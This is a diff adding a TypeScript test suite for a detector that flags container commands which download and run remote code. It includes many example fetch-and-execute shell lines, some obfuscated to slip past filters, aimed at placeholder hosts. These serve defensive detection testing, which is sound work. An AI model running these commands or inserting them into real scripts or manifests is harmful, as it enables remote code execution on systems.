@@ -1,0 +1,127 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { growth } from '../../lib/testing.ts';
+import { blank, cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { DOWNLOADERS } from '../text/acts.ts';
+import { PUBLISHERS } from '../text/fetch.ts';
+import { WRAPPER_NAMES } from '../text/programs.ts';
+import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
+
+indicatorTable(commandRemoteFetchExecute, {
+  fires: {
+    'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
+    'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
+    'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
+    'a pipe through other programs': script(
+      'curl -s http://203.0.113.7/x.gz | gunzip | tee /tmp/x | bash -s -- --quiet',
+    ),
+    'a substitution in eval': script('eval "$(curl -fsSL http://203.0.113.7/x)"'),
+    'a substitution as the text of a shell': script('sh -c "$(wget -qO- http://203.0.113.7/x)"'),
+    backticks: script('sh -c "`curl http://203.0.113.7/x`"'),
+    'a process substitution': script('bash <(curl -s http://203.0.113.7/x)'),
+    'a variable in between': script('X=$(curl -s http://203.0.113.7/x); echo hello; eval "$X"'),
+    'a file that is made executable': script('curl -so /tmp/a http://203.0.113.7/a && chmod +x /tmp/a && /tmp/a'),
+    'a file with an octal mode': script('wget -q http://203.0.113.7/agent -O /assets/agent && chmod 755 /assets/agent'),
+    'a file that is run by a shell': script('wget http://203.0.113.7/run.sh; sh run.sh'),
+    'a redirect into a file that is run': script('curl http://203.0.113.7/a > /tmp/a; bash /tmp/a'),
+    'a file that is copied first': script('curl -O http://203.0.113.7/a; mv a /tmp/b; chmod u+x /tmp/b'),
+    'an archive that is unpacked and run': script('cd /tmp && curl -sL https://203.0.113.7/x.tgz | tar xz && ./x/run'),
+    'a shell in a shell': script(`sh -c 'bash -c "curl http://203.0.113.7/x | sh"'`),
+    'a shell behind a download into a loop': script('curl http://203.0.113.7/x | while read l; do sh -c "$l"; done'),
+    'python that runs what it fetches': runs(
+      'python3',
+      '-c',
+      'import urllib.request as u; exec(u.urlopen("http://203.0.113.7/p").read())',
+    ),
+    'an interpreter instead of a shell': script('curl -s http://203.0.113.7/p.py | python3 -'),
+    'words written apart': script(`c''u"rl" http://203.0.113.7/x | s\\h`),
+    'blanks as variables': script(`curl\${IFS}http://203.0.113.7/x|sh`),
+    'kubectl exec into another pod': script("kubectl exec web-0 -- sh -c 'wget -qO- http://203.0.113.7/x | sh'"),
+    'in a postStart hook': cronJob({
+      containers: [
+        { name: 'web', lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.7/x|sh'] } } } },
+      ],
+    }),
+    'a publisher over plain http': script('curl -LO http://dl.k8s.io/v1.36.0/bin/kubectl; chmod +x kubectl'),
+    'a publisher in the name of another host': script(
+      'curl -LO https://dl.k8s.io.example.com/kubectl; chmod +x kubectl',
+    ),
+  },
+  staysSilent: {
+    'a health check that only fetches': runs('curl', '-fsS', 'https://example.com/health'),
+    'a pipe with no fetch': runs('sh', '-c', 'cat job.sh | sh'),
+    'a download into a reader': script('curl -s https://example.com/a.json | jq .items'),
+    'a download as data of code': script(
+      'curl -s https://example.com/a.json | python3 -c "import json,sys; json.load(sys.stdin)"',
+    ),
+    'a download as data of a module': script('curl -s https://example.com/a.json | python3 -m json.tool'),
+    'a download into a file that is only stored': script(
+      'curl -o /backup/a.tar https://example.com/a.tar; ls -l /backup/a.tar',
+    ),
+    'a download as a part of a message': script('sh -c "echo version is $(curl -s https://example.com/version)"'),
+    'a value of a download in a condition': script(
+      'if [ "$(curl -s https://example.com/ok)" = yes ]; then sh /scripts/go.sh; fi',
+    ),
+    'a mode that makes nothing executable': script('curl -o key https://example.com/key; chmod 600 key'),
+    'a tool of a known publisher': script(
+      'curl -LO https://dl.k8s.io/release/v1.36.0/bin/linux/amd64/kubectl; chmod +x kubectl',
+    ),
+    'the installer of a known project': script('curl -fsSL https://get.helm.sh/install | bash'),
+    'python that fetches and reads': runs(
+      'python3',
+      '-c',
+      'import requests; print(requests.get("https://example.com").json())',
+    ),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+test('the sentence names the container and the way, the value is the pipeline', () => {
+  const outcome = commandRemoteFetchExecute.assess(script('date; curl -s http://203.0.113.7/x | sh; sleep 5'));
+  assert.ok(outcome.kind === 'hit');
+  assert.deepEqual(outcome.evidence, [
+    {
+      says: 'Container "main" pipes a download into an interpreter.',
+      at: '/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command/2',
+      value: 'curl -s http://203.0.113.7/x | sh',
+      container: 'main',
+    },
+  ]);
+});
+
+for (const program of DOWNLOADERS) {
+  test(`${program} downloads`, () =>
+    assert.equal(commandRemoteFetchExecute.assess(script(`${program} http://203.0.113.7/x | sh`)).kind, 'hit'));
+}
+for (const wrapper of WRAPPER_NAMES) {
+  const before = ['timeout', 'flock', 'gosu', 'su-exec', 'chroot'].includes(wrapper) ? `${wrapper} 5` : wrapper;
+  test(`${wrapper} in front of the shell changes nothing`, () =>
+    assert.equal(commandRemoteFetchExecute.assess(script(`curl http://203.0.113.7/x | ${before} sh`)).kind, 'hit'));
+}
+for (const place of PUBLISHERS) {
+  const text = (at: string) => script(`curl -Lo /tmp/tool ${at} && chmod +x /tmp/tool`);
+  test(`${place} is known only by https and by its whole name`, () => {
+    assert.equal(commandRemoteFetchExecute.assess(text(place)).kind, 'miss');
+    assert.equal(commandRemoteFetchExecute.assess(text(place.replace('https:', 'http:'))).kind, 'hit');
+  });
+}
+
+for (const piece of [
+  'curl a|sh|',
+  'X=$(curl a);',
+  'eval "$(',
+  'curl -O ',
+  'chmod +x a;',
+  '. <(curl a);',
+  'curl a>b;sh b;',
+  '{ curl;',
+  '$X ',
+]) {
+  test(`linear on repeated ${JSON.stringify(piece)}`, () => {
+    const ratio = growth((size) => {
+      commandRemoteFetchExecute.assess(script(piece.repeat(Math.ceil(size / piece.length))));
+    }, 50_000);
+    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
+  });
+}
